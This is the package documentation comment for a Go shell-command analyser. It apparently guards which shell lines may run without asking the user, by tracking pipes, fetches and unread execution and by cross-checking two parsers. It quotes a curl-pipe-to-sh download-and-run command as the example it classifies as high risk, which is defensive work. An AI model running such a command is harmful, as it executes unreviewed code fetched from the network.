// Package line holds the wide reader. It sees in a shell line every command that some shell could take from it, in
// pipes, substitutions, loops, here-documents and after wrappers such as sudo, and lets the rule of each program judge
// it. What it finds is added to what the call could do, and what it cannot read asks.
//
// A Reading reads one call. What it knows on the way is in three layers:
//
//	frame    what a place of the line is inside of: depth, loop, subshell, pipe. It is an argument, by value
//	flow     what moves along the line: the directories it may be in, files read and written, what was fetched
//	verdict  what was found, what rules and grants will look at, what reading has cost. All frames share it
//
// Take "curl https://example.org/x | sh". The first command is read in a frame whose output is a pipe; curl's rule
// gives network-read, which the verdict keeps, and the effect Fetches, which the flow keeps. The second is read in a
// frame whose input is a pipe of unknown contents, so the rule of sh gives the effect RunsUnread. Neither command is
// R4. At the end Reading.Finish sees in the flow that the line fetched something and ran something unread:
// runs-download, R4.
//
// This reader alone must never let a line run unasked. Its parser reads bash; the shell that runs the line may be dash,
// zsh or fish, to which braces, "&>" or "!" mean something else. A mistake about a danger adds a finding, or misses one
// that no permission rests on. To allow, it must be sure that the commands which were seen are those that run. So the
// plain reader of package shell, which shares no code with the parser, reads the same text, and both write down what
// they read: only if that is the same, byte by byte (verdict.agree), is the line what it seems to be. Else it is
// unusual-shell, which asks.
//
// Files call downward. At the ground are wide (parser, limits), shape and spelling (questions about syntax), frame,
// verdict, seen, scan, flow, and empty; the grammar is one: nested, statements, loop, redirect, takings, words, expand,
// command; on top is entry.
package line
